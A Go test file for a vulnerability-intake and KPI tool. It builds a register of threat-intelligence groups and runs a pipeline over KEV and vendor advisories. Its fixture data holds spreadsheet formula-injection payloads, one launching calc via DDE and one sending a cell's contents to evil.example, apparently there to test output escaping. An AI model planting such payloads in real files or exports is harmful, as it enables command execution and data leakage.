package evidence_test

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"github.com/sigwatch/sigwatch/feeds"
	"github.com/sigwatch/sigwatch/feeds/memfeed"
	"github.com/sigwatch/sigwatch/intake"
	"github.com/sigwatch/sigwatch/intake/notify"
	"github.com/sigwatch/sigwatch/kpi"
	"github.com/sigwatch/sigwatch/register"
	"github.com/sigwatch/sigwatch/triage"
)

// clock is a settable test clock: every step of the fixture happens at a
// time the test chose.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) Set(t time.Time) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = t
}

func date(y int, m time.Month, d int) register.Date { return register.NewDate(y, m, d) }

func utc(m time.Month, d, h, min int) time.Time { return time.Date(2026, m, d, h, min, 0, 0, time.UTC) }

func fixtureRegister() *register.Register {
	inactive := false
	return &register.Register{
		Organisation: register.Organisation{Name: "Example Bank plc"},
		People: []register.Person{
			{ID: "akhan", Name: "Aisha Khan", Email: "aisha.khan@example.com", Role: "Network Engineer", Technical: true},
			{ID: "jlee", Name: "Jin Lee", Role: "Compliance Lead", Active: &inactive},
			{ID: "bwu", Name: "Bo Wu", Role: "Security Analyst", Technical: true},
		},
		Groups: []register.Group{
			{ID: "sector-isac", Name: "Sector ISAC | Finance", Kind: register.KindISAC, URL: "https://isac.example.org",
				Relevance: "Peer exchange;\nmonthly threat calls", Scope: register.Scope{Regions: []string{"EU"}, Sectors: []string{"finance"}},
				Owner: "jlee",
				Membership: register.Membership{Status: register.MembershipActive, Since: date(2025, 1, 1), Until: date(2026, 12, 31),
					Renewal: date(2026, 12, 1), TLP: "AMBER", Proof: []register.Proof{{Ref: "invoice INV-2025-001"}, {Ref: "=cmd|' /C calc'!A0"}}},
				Channels: []register.Channel{{Kind: "manual"}},
				Engagements: []register.Engagement{
					{Date: date(2026, 3, 4), Kind: "meeting", Who: []string{"jlee"}},
					{Date: date(2026, 9, 9), Kind: "contribution", Who: []string{"akhan"}, Notes: "shared IOCs"},
				}},
			{ID: "cisa", Name: "CISA Known Exploited Vulnerabilities", Kind: register.KindGovernmentCERT,
				URL:       "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
				Relevance: "Authoritative list of exploited CVEs; drives patch SLAs.", Scope: register.Scope{Regions: []string{"global"}},
				Owner: "akhan", Backup: "bwu",
				Membership: register.Membership{Status: register.MembershipActive, Since: date(2024, 3, 1),
					Proof: []register.Proof{{Ref: "subscription confirmation 2024-03-01"}}},
				Channels: []register.Channel{{Kind: "kev", URL: "https://www.cisa.gov/sites/default/files/feeds/known_exploited_vulnerabilities.json"}},
				Review: register.Review{Every: register.Period{Months: 12},
					Records: []register.ReviewRecord{{Date: date(2025, 11, 2), By: "akhan", Outcome: register.OutcomeKeep}}},
				Engagements: []register.Engagement{{Date: date(2025, 6, 12), Kind: "webinar", Who: []string{"akhan"}}}},
			{ID: "fortinet-psirt", Name: "Fortinet PSIRT", Kind: register.KindVendor, URL: "https://www.fortiguard.com/psirt",
				Relevance: "Our edge firewalls run FortiOS.", Owner: "akhan", Backup: "jlee",
				Membership: register.Membership{Status: register.MembershipActive, Since: date(2023, 5, 1)},
				Channels:   []register.Channel{{Kind: "rss", URL: "https://filestore.fortinet.com/fortiguard/rss/ir.xml", Source: "fortinet-psirt"}},
				Review: register.Review{Every: register.Period{Months: 6}, Records: []register.ReviewRecord{
					{Date: date(2025, 7, 1), By: "akhan", Outcome: register.OutcomeKeep},
					{Date: date(2025, 1, 10), By: "bwu", Outcome: register.OutcomeChange, Notes: "moved to the RSS feed"},
				}}},
			{ID: "old-forum", Name: "Old Forum", Kind: register.KindForum, Owner: "ghost",
				Membership: register.Membership{Status: register.MembershipEnded, Since: date(2020, 1, 1), Until: date(2024, 1, 1)}},
		},
	}
}

func kevAdvisory(id, vendor, product, title, ransomware string) feeds.Advisory {
	return feeds.Advisory{ID: id, Title: title, Publisher: "CISA",
		Affected: []feeds.Affected{{Vendor: vendor, Product: product}},
		Exploitation: feeds.Exploitation{KEV: &feeds.KEVListing{
			DateAdded: time.Date(2024, 2, 9, 0, 0, 0, 0, time.UTC), DueDate: time.Date(2024, 2, 16, 0, 0, 0, 0, time.UTC),
			RansomwareUse: ransomware}},
	}
}

// fixture is a register and the cases of a real pipeline run at fixed
// times:
//
//	2026-11-23 09:00  run: KEV (3 advisories) and the Fortinet PSIRT feed (1,
//	                  an alias of a KEV CVE) → 3 cases
//	2026-11-23 09:05  deliver: netops and collab told through chat; the
//	                  e-mail to netops fails for good (no such mailbox)
//	2026-11-23 10:00  manual receipt from the sector ISAC, asserted 08:30
//	2026-11-24 09:00  CVE-2024-21762 actioned by netops (CHG-1234)
//	2026-11-25 09:00  CVE-2024-21762 closed by akhan
//	2026-11-25 10:00  CVE-2023-22518 rejected by akhan
type fixture struct {
	reg   *register.Register
	cases []intake.Case
	asOf  time.Time
}

func newFixture(t testing.TB) fixture {
	t.Helper()
	clk := &clock{t: utc(11, 23, 9, 0)}
	eng, err := triage.New(&triage.Stack{Components: []triage.Component{
		{ID: "edge-fw", Vendor: "Fortinet", Product: "FortiOS", Version: "7.2.4", Owner: "netops",
			Exposure: triage.ExposureInternet, Criticality: triage.CriticalityHigh},
		{ID: "wiki", Vendor: "Atlassian", Product: "Confluence Server", Version: "8.5.1", Owner: "collab"},
	}}, &triage.Options{Now: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	reg := fixtureRegister()
	vendor := feeds.Advisory{ID: "FG-IR-24-015", Aliases: []string{"CVE-2024-21762"}, Publisher: "Fortinet",
		Title: "FortiOS out-of-bound write in sslvpnd", URL: "https://fortiguard.fortinet.com/psirt/FG-IR-24-015",
		Severity: feeds.SeverityCritical, TLP: feeds.TLPClear,
		Affected: []feeds.Affected{{Vendor: "Fortinet", Product: "FortiOS", Ranges: []feeds.Range{{Type: "SEMVER",
			Events: []feeds.Event{{Introduced: "7.2.0"}, {Fixed: "7.2.7"}}}}}}}
	p, err := intake.New([]feeds.Source{
		memfeed.New("cisa-kev",
			kevAdvisory("CVE-2024-21762", "Fortinet", "FortiOS", "Fortinet FortiOS Out-of-Bound Write", "Known"),
			kevAdvisory("CVE-2023-22518", "Atlassian", "Confluence Data Center and Server", "Atlassian Confluence Improper Authorization", "Known"),
			kevAdvisory("CVE-2025-0001", "Example", "Widget", `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`, "Unknown"),
		),
		memfeed.New("fortinet-psirt", vendor),
	}, eng, &intake.Options{Register: reg, Now: clk.Now, Concurrency: 1, Notify: &intake.NotifyOptions{
		Notifiers: []notify.Notifier{
			notify.Func("chat", func(_ context.Context, m *notify.Message) (notify.Delivery, error) {
				return notify.Delivery{Ref: "200 OK", Status: 200}, nil
			}),
			notify.Func("mail", func(_ context.Context, m *notify.Message) (notify.Delivery, error) {
				return notify.Delivery{}, &notify.Error{Notifier: "mail", Permanent: true, Status: 550, Err: errors.New("550 5.1.1 no such mailbox")}
			}),
		},
		Routes:           []intake.Route{{Notifier: "chat"}, {Owner: "netops", Notifier: "mail"}},
		DigestPriorities: []triage.Priority{},
		Worker:           "fixture",
	}})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if _, err := p.Run(ctx); err != nil {
		t.Fatal(err)
	}
	clk.Set(utc(11, 23, 9, 5))
	if _, err := p.Deliver(ctx); err != nil {
		t.Fatal(err)
	}
	clk.Set(utc(11, 23, 10, 0))
	if _, err := p.Receive(ctx, feeds.Advisory{ID: "ISAC-2026-0042", TLP: feeds.TLPAmber,
		Title: "Phishing | kit targeting <b>finance</b>\nsecond line"},
		intake.ManualReceipt{Group: "sector-isac", By: "akhan", ReceivedAt: utc(11, 23, 8, 30)}); err != nil {
		t.Fatal(err)
	}
	clk.Set(utc(11, 24, 9, 0))
	if err := p.Action(context.Background(), "CVE-2024-21762", "CHG-1234", "netops", "upgraded edge-fw to 7.2.7"); err != nil {
		t.Fatal(err)
	}
	clk.Set(utc(11, 25, 9, 0))
	if err := p.Close(context.Background(), "CVE-2024-21762", "akhan", "verified fixed"); err != nil {
		t.Fatal(err)
	}
	clk.Set(utc(11, 25, 10, 0))
	if err := p.Reject(context.Background(), "CVE-2023-22518", "accepted risk: wiki is not reachable from outside", "akhan"); err != nil {
		t.Fatal(err)
	}
	cases, err := p.Cases(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	return fixture{reg: reg, cases: cases, asOf: utc(12, 1, 0, 0)}
}

func (f fixture) report() *kpi.Report {
	return kpi.Compute(f.reg, f.cases, kpi.Quarter(2026, 4), f.asOf, &kpi.Options{Generator: "sigwatch test"})
}
